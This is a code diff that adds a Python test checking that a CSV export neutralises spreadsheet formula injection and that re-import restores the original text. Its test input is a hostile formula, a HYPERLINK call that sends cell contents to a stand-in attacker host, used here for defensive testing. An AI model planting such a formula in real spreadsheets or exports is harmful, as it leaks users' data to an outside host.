@@ -66,3 +66,24 @@ def test_a_multi_line_quoted_error_text_is_one_correction(engine, tmp_path) -> N
     path.write_text('error_text,corrected_category\n"Traceback:\n  File ""x.py"", line 3\nKeyError: \'id\'",'
                     'INPUT_DATA_QUALITY\n')
     assert import_csv(engine, path, Taxonomy()).imported == 1
+
+
+def test_a_formula_in_the_export_stays_text_and_reads_back_as_it_was(engine, tmp_path, make_row) -> None:
+    """Issue 25: ``=HYPERLINK(...)`` from a log became a live formula in the spreadsheet the README
+    tells people to correct. Every cell that would start a formula is prefixed with ``'``; the
+    import takes the prefix off again."""
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
+    exported = to_csv([make_row(1, formula, name="@SUM(1+1)", tags=["-2+3"])])
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'" + formula in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
+    rows = list(csv.DictReader(io.StringIO(exported)))
+    rows[0]["Corrected Category"] = "INPUT_DATA_QUALITY"
+    path = tmp_path / "c.csv"
+    with path.open("w", newline="") as fh:
+        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    assert import_csv(engine, path, Taxonomy()).imported == 1
+    [stored] = load_corrections(engine)
+    assert stored.error_text == formula
